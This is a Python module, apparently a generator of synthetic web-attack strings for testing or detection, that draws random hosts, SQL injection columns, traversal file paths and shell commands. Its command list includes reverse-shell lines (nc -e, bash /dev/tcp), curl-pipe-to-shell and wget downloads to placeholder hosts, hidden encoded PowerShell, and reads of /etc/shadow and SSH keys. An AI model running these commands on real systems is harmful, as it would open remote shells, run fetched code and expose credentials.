"""What grammars of web attacks have in common: names of the kinds, hosts, columns, files and commands, drawn at random."""

from __future__ import annotations

import base64
from random import Random

Pick = tuple[str, str]
SQL, XSS, FILES, COMMAND, TEMPLATE, LOOKUP, MARKUP, PROBE, SHELL, HEADER = (
    "sqli", "xss", "traversal", "cmdi", "ssti", "lookup", "xxe", "probe", "webshell", "crlf",
)  # fmt: skip


def random_word(rng: Random, low: int = 3, high: int = 8) -> str:
    """Return ``low`` to ``high`` letters."""
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(low, high)))


def random_host(rng: Random) -> str:
    """Return a name or an address of documentation, some with a port."""
    return rng.choice(
        [
            f"{random_word(rng)}.{rng.choice(['example', 'test', 'invalid'])}",
            f"203.0.113.{rng.randint(1, 254)}",
            f"198.51.100.{rng.randint(1, 254)}:{rng.choice([80, 1389, 8080, 4444])}",
        ]
    )


def random_columns(rng: Random) -> str:
    """Return one to twelve columns of a query."""
    n = rng.randint(1, 12)
    return ",".join(
        rng.choice(
            [
                str(i + 1),
                "null",
                "NULL",
                f"'{random_word(rng)}'",
                "@@version",
                "user()",
                "database()",
                f"0x{rng.getrandbits(40):x}",
                "password",
                "table_name",
                "char(58)",
            ]
        )
        for i in range(n)
    )


UNIX = (
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "etc/group",
    "proc/self/environ",
    "proc/version",
    "var/log/apache2/access.log",
    "var/log/auth.log",
    "root/.bash_history",
    "etc/issue",
    "home/user/.ssh/id_rsa",
    "proc/self/cmdline",
    "etc/apache2/apache2.conf",
    "etc/nginx/nginx.conf",
    "etc/my.cnf",
)
WINDOWS = (
    "boot.ini",
    "windows/win.ini",
    "windows\\win.ini",
    "windows/system32/drivers/etc/hosts",
    "winnt/system32/cmd.exe",
    "inetpub/wwwroot/web.config",
    "windows/repair/sam",
)
COMMANDS = (
    "id",
    "whoami",
    "ls -la",
    "cat /etc/passwd",
    "uname -a",
    "ping -c 3 {h}",
    "wget http://{h}/{w}",
    "curl {h}/{w}.sh|sh",
    "nslookup {h}",
    "sleep 5",
    "echo {w}",
    "ps aux",
    "netstat -an",
    "ifconfig",
    "nc -e /bin/sh {h} 4444",
    "/bin/cat /etc/shadow",
    "dir",
    "dir c:\\",
    "type c:\\windows\\win.ini",
    "ipconfig /all",
    "net user",
    "powershell -nop -w hidden -enc {b}",
    "certutil -urlcache -f http://{h}/{w}.exe",
    "python3 -c 'import os'",
    "bash -i >& /dev/tcp/{h}/443 0>&1",
    "rm -rf /tmp/{w}",
    "touch /tmp/{w}",
    "env",
    "pwd",
    "systeminfo",
    "tasklist",
)


def random_command(rng: Random) -> str:
    """Return a command of a system's shell."""
    return rng.choice(COMMANDS).format(
        h=random_host(rng), w=random_word(rng), b=base64.b64encode(random_word(rng, 12, 30).encode()).decode()
    )
